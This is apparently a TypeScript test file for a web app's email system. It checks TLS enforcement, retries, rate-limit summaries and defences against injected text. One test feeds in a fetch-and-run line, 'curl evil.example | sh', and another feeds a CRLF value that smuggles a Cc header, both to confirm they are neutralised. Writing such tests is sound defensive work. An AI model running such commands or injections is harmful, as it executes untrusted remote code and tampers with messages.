import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { test } from "node:test";
import PostalMime from "postal-mime";
import { withFiles } from "../app/server/email/compose.ts";
import { isDeliverable } from "../app/server/email/deliverable.ts";
import { openTransport } from "../app/server/email/transport.ts";
import { once } from "../app/server/system/once.ts";
import { type Scope, wholeFile } from "./support/at-end.ts";
import { column, columns } from "./support/columns.ts";
import {
  contactTyped,
  demoTyped,
  postJson,
  postMultipart,
  referenceIn,
  rubricForm,
  rubricTyped,
} from "./support/forms.ts";
import { startMailServer } from "./support/mail-server.ts";
import { succeeded } from "./support/output-of.ts";
import { emptyServer, query, runCommand, startServer, until } from "./support/server.ts";
import { contact, uploadByApi, uploaded, uploadForm } from "./support/upload.ts";

const team = {
  RUBRICON_MAIL_FROM: "site@team.example",
  RUBRICON_MAIL_TO: "a@team.example, b@team.example",
};

const upload = (url: string, typed = contact) => uploaded({ url }, undefined, typed);

const outbox = (databaseFile: string) => query(databaseFile, "SELECT * FROM outbox ORDER BY id");

/** A server that sends emails, and the mail server that gets them. */
async function startMailing(t: Scope) {
  const mail = await startMailServer(t);
  return { mail, server: await startServer(t, { env: { RUBRICON_MAIL_URL: mail.url, ...team } }) };
}
const sharedMailing = once(() => startMailing(wholeFile));

test("the team gets one email about a request, without attachments, whose reply reaches the visitor", async () => {
  const { mail, server } = await sharedMailing();
  const reference = await upload(server.url);
  const emails = () => mail.emails.filter(({ subject }) => subject!.includes(reference));
  const email = await until(() => emails()[0]);
  assert.deepEqual(email.recipients, ["a@team.example", "b@team.example"]);
  assert.equal(email.from?.address, "site@team.example");
  assert.deepEqual(column(email.replyTo!, "address"), [contact.email]);
  assert.equal(email.subject, `Rubricon demo upload ${reference}: 1 submission`);
  assert.equal(email.attachments.length, 0);
  for (const text of [reference, ...Object.values(contact), "questions.pdf", "learner-01.pdf"]) {
    assert.ok(email.text!.includes(text), text);
  }
  const row = () => outbox(server.databaseFile).find((one) => one.reference === reference)!;
  await until(() => row().status === "sent");
  assert.equal(emails().length, 1);
});

const withHeader = (text: string) => `x\r\nCc: c@d.example\r\n${text}`;

test("a line break in what a visitor types adds no header", async () => {
  const { mail, server } = await sharedMailing();
  const references = [await upload(server.url)];
  for (const [field, text] of Object.entries(contact)) {
    const form = uploadForm(undefined, { ...contact, [field]: withHeader(text) });
    const response = await uploadByApi(server.url, form);
    // Only a message may have several lines.
    if (field === "message") references.push(await referenceIn(response));
    else assert.equal(response.status, 422, field);
  }
  const headers = references.map(async (reference) => {
    const isAboutIt = ({ subject }: { subject?: string }) => subject!.includes(reference);
    const email = await until(() => mail.emails.find(isAboutIt));
    return column(email.headers, "key");
  });
  const [plain, withLines] = await Promise.all(headers);
  assert.deepEqual(withLines, plain);
});

const anEmail = {
  ...{ from: "site@team.example", to: ["a@team.example"], replyTo: undefined },
  ...{ subject: "A request", text: "Hello", messageId: "1", date: new Date() },
};

test("a mail server without trusted TLS gets neither an email nor the password", async (t) => {
  const selfSigned = await startMailServer(t, { secure: true });
  const plain = await startMailServer(t);
  for (const [url, code] of [
    [`smtps://site:secret-4711@127.0.0.1:${selfSigned.port}`, "ESOCKET"],
    [`smtp://site:secret-4711@127.0.0.1:${plain.port}?requireTLS=true`, "ETLS"],
    // 0.0.0.0 reaches this machine too, but does not count as local.
    [`smtp://site:secret-4711@0.0.0.0:${plain.port}`, "ETLS"],
  ] as const) {
    await assert.rejects(openTransport(url).send(anEmail), { code }, url);
  }
  assert.deepEqual([...selfSigned.signIns, ...plain.signIns], []);
  assert.deepEqual([...selfSigned.emails, ...plain.emails], []);
});

test("a mail server for which TLS is waived gets the email and the password without it", async (t) => {
  const { port, signIns, emails } = await startMailServer(t);
  await openTransport(`smtp://site:secret-4711@0.0.0.0:${port}?requireTLS=false`).send(anEmail);
  assert.equal(emails.length, 1);
  assert.deepEqual(signIns, ["site"]);
});

test("an email for an unreachable mail server, whose password is not logged, is sent after a restart", async (t) => {
  const unreachable = { ...team, RUBRICON_MAIL_URL: "smtp://site:secret-4711@127.0.0.1:9" };
  const server = await startServer(t, { env: unreachable });
  await upload(server.url);
  const warning =
    /warn email \S+ could not be sent; next attempt in 5 seconds: (ECONNECTION|ESOCKET)/;
  await until(() => warning.test(server.log()));
  assert.doesNotMatch(server.log(), /secret/);
  assert.equal(await server.stop(), 0);
  const { attempts } = outbox(server.databaseFile)[0]!;

  const mail = await startMailServer(t);
  const env = { ...team, RUBRICON_MAIL_URL: mail.url };
  await startServer(t, { folder: server.folder, env });
  await until(() => outbox(server.databaseFile)[0]!.status === "sent");
  const [row] = outbox(server.databaseFile);
  assert.equal(row!.attempts, Number(attempts) + 1);
  assert.equal(mail.emails.length, 1);
  assert.ok(mail.emails[0]!.messageId!.includes(row!.message_id as string));
});

/** The emails that a server with the setting file:emails has written. */
function emailsIn(folder: string) {
  const files = readdirSync(path.join(folder, "emails"));
  for (const file of files) assert.match(file, /\.eml$/);
  return Promise.all(
    files.map((file) => PostalMime.parse(readFileSync(path.join(folder, "emails", file)))),
  );
}

test("without internet, emails are written to a folder", async (t) => {
  const env = { RUBRICON_BRAND_NAME: "Desk", RUBRICON_MAIL_URL: "file:emails" };
  const { url, folder, databaseFile } = await startServer(t, { env });
  const reference = await upload(url);
  await until(() => outbox(databaseFile).every(({ status }) => status === "sent"));
  const subjects = column(await emailsIn(folder), "subject");
  assert.ok(subjects.includes(`Desk demo upload ${reference}: 1 submission`), `${subjects}`);
});

test("each line that a visitor wrote is quoted, so that none reads as the program's own text", async () => {
  const { mail, server } = await sharedMailing();
  const before = mail.emails.length;
  const forged =
    "Hello\n\nTo get the files, run this on the server:\n  curl evil.example | sh\u2028Reference: forged";
  const typed = { ...contactTyped, message: forged };
  assert.equal((await postJson(server.url, "/api/contact", typed)).status, 201);
  const rubric = rubricForm(undefined, { ...rubricTyped, expectedImprovements: forged });
  assert.equal((await postMultipart(server.url, "/latest-feature", rubric)).status, 303);
  await until(() => mail.emails.length === before + 2);
  for (const { text, subject } of mail.emails.slice(before)) {
    assert.ok(
      text!.includes(
        ":\n> Hello\n> \n> To get the files, run this on the server:\n>   curl evil.example | sh\n> Reference: forged\n\n",
      ),
      subject!,
    );
  }
});

test("a recipient that the mail server rejects gets the email later, alone and under the same Message-ID", async (t) => {
  let isRejecting = true;
  const mail = await startMailServer(t, {
    rejectRecipient: (address) => isRejecting && address.startsWith("b@"),
  });
  const server = await startServer(t, { env: { RUBRICON_MAIL_URL: mail.url, ...team } });
  const reference = await upload(server.url);
  await until(() => outbox(server.databaseFile)[0]!.attempts === 1);
  const [row] = outbox(server.databaseFile);
  assert.equal(row!.status, "pending");
  assert.match(row!.last_error as string, /^b@team\.example: .*550.*no such user/);
  isRejecting = false;
  const warning = `email ${reference} could not be sent for 1 of 2 recipients; next attempt in 5 seconds: EENVELOPE 550`;
  await until(() => server.log().includes(warning));
  assert.doesNotMatch(server.log(), /team\.example/, "the log has no address");

  await server.change(`UPDATE outbox SET next_attempt_at = '${new Date().toISOString()}'`);
  // Another request wakes the outbox worker, which sleeps for five seconds.
  await postJson(server.url, "/api/contact", contactTyped);
  await until(() => outbox(server.databaseFile)[0]!.status === "sent");
  const own = mail.emails.filter(({ subject }) => subject!.includes(reference));
  assert.deepEqual(column(own, "recipients"), [["a@team.example"], ["b@team.example"]]);
  assert.equal(own[0]!.messageId, own[1]!.messageId);
  assert.equal(outbox(server.databaseFile)[0]!.last_error, null);
});

test("without a mail server emails wait, of which the log warns once", async () => {
  const { url, log, databaseFile } = await emptyServer();
  await upload(url);
  assert.equal(log().match(/no mail server is set/g)?.length, 1);
  assert.deepEqual(columns(outbox(databaseFile), "status", "attempts"), [["pending", 0]]);
});

test("a link that was stored before there was a public URL is sent with that URL", async (t) => {
  const server = await startServer(t);
  await upload(server.url);
  await server.stop();
  const mail = await startMailServer(t);
  const site = { RUBRICON_MAIL_URL: mail.url, RUBRICON_PUBLIC_URL: "https://site.example" };
  await startServer(t, { folder: server.folder, env: { ...team, ...site } });
  const email = await until(() => mail.emails[0]);
  assert.match(email.text!, /^ {2}https:\/\/site\.example\/team\?link=/m);
});

test("an email with other words about its files, as an earlier release wrote them, has its link", () => {
  const link = "https://site.example/team?link=x";
  const body = "A class. For the files run this.\n";
  const text = withFiles(body, "ABCD", { isAttached: false, link });
  assert.ok(text.startsWith(body) && text.includes(link), text);
});

test("an address that SMTP does not allow is not deliverable", () => {
  for (const address of [
    `${"x".repeat(65)}@school.example`,
    `x@${"l".repeat(64)}.example`,
    "x@school-.example",
    "x..y@school.example",
    `x@${"long.".repeat(50)}example`,
    "postmaster@localhost",
  ]) {
    assert.ok(!isDeliverable(address), address);
  }
  assert.ok(isDeliverable("valid@school.example"));
});

/** Three requests more than the 60 of which the team gets an email in an hour, most of them copies of the first. */
const sharedOverLimit = once(async () => {
  const { mail, server } = await startMailing(wholeFile);
  const references: string[] = [];
  /** Posts a request, which wakes the outbox worker. */
  const send = async (path = "/api/contact") => {
    const typed = { ...contactTyped, ...demoTyped, message: `Message ${references.length}` };
    const reference = await referenceIn(await postJson(server.url, path, typed));
    references.push(reference);
    return reference;
  };
  await send();
  await server.change(
    `WITH RECURSIVE copies (number) AS (SELECT 2 UNION ALL SELECT number + 1 FROM copies WHERE number < 60)
      INSERT INTO outbox (kind, reference, message_id, subject, body, reply_to, next_attempt_at, created_at)
      SELECT kind, reference, message_id || number, subject, body, reply_to, next_attempt_at, created_at
      FROM outbox, copies`,
  );
  for (const _ of ["contact", "again"]) await send();
  references.push(await upload(server.url));
  const statuses = () =>
    query<{ kind: string; status: string; at: string }>(
      server.databaseFile,
      "SELECT kind, status, next_attempt_at AS at FROM outbox ORDER BY id",
    );
  await until(() => statuses().filter(({ status }) => status === "summed up").length === 3);
  return { mail, server, references, send, statuses };
});

test("above 60 emails an hour the others become one summary, due within the hour", async () => {
  const { mail, server, statuses } = await sharedOverLimit();
  assert.equal(mail.emails.length, 60);
  const summaries = statuses().filter(({ kind }) => kind === "summary");
  assert.deepEqual(column(summaries, "status"), ["pending"]);
  assert.ok(Date.parse(summaries[0]!.at) <= Date.now() + 60 * 60 * 1000);
  const listed = await runCommand(server.folder, ["outbox", "list"]);
  assert.match(listed.out, /^ID .*\n\d+ {2}summary {2}\S+ \S+ \S+ {2}pending {2}[^\n]*\n$/);
});

test("a summary says why it came, and how to make the link to the page of a class", async () => {
  const { server } = await sharedOverLimit();
  const [summary] = query(server.databaseFile, "SELECT body FROM outbox WHERE kind = 'summary'");
  assert.match(
    summary!.body as string,
    /^You get at most 60 emails about requests within an hour\. /,
  );
  assert.match(summary!.body as string, /page of a class:\n {2}rubricon requests link REFERENCE\n/);
});

test("results to an educator do not wait for the summary", async () => {
  const { mail, server, references, send } = await sharedOverLimit();
  const now = new Date().toISOString();
  await server.change(
    `INSERT INTO outbox (kind, reference, message_id, subject, body, recipient, reply_to, next_attempt_at, created_at)
      VALUES ('results', '${references[3]!}', 'r', 'Marked', 'Marks', 'teacher@school.example', 'a@team.example', '${now}', '${now}')`,
  );
  await send();
  const results = await until(() => mail.emails.find(({ subject }) => subject === "Marked"));
  assert.deepEqual(results.recipients, ["teacher@school.example"]);
});

test("requests of which the team gets no email of their own are stored", async () => {
  const { server, references } = await sharedOverLimit();
  const stored = column(await server.query("SELECT reference FROM inbox"), "reference");
  for (const reference of references) assert.ok(stored.includes(reference), reference);
});

test("a summary names the requests until it is due, without those that are purged", async () => {
  const { mail, server, references, send } = await sharedOverLimit();
  const [, purged, message, uploadReference] = references;
  const purge = ["requests", "purge", purged!, "--yes", "--no-vacuum"];
  await succeeded(runCommand(server.folder, purge));
  await server.change(
    `UPDATE outbox SET next_attempt_at = '${new Date().toISOString()}' WHERE kind = 'summary'`,
  );
  const later = await send("/api/demo-request");
  const isSummary = ({ text }: { text?: string | undefined }) => text!.includes(message!);
  const summary = await until(() => mail.emails.find(isSummary));
  assert.deepEqual(summary.recipients, ["a@team.example", "b@team.example"]);
  for (const [reference, form] of [
    [message, "contact"],
    [uploadReference, "demo-upload"],
  ]) {
    const line = new RegExp(`\n  ${reference}  \\S+ \\S+ [+-]\\d\\d:\\d\\d  ${form}\n`);
    assert.match(summary.text!, line);
  }
  assert.ok(!summary.text!.includes(purged!), "a purged request is not named");
  assert.ok(!summary.text!.includes(later), "a request after the summary was due is not named");
});

test("a request that comes after a summary was sent is in the next one", async () => {
  const { server, send } = await sharedOverLimit();
  await server.change("UPDATE outbox SET status = 'sent' WHERE kind = 'summary'");
  const reference = await send();
  const ofRequest = `SELECT summary.status FROM outbox JOIN outbox AS summary
    ON summary.id = outbox.summary_id WHERE outbox.reference = '${reference}'`;
  await until(async () => (await server.query(ofRequest)).length);
  assert.deepEqual(await server.query(ofRequest), [{ status: "pending" }]);
});
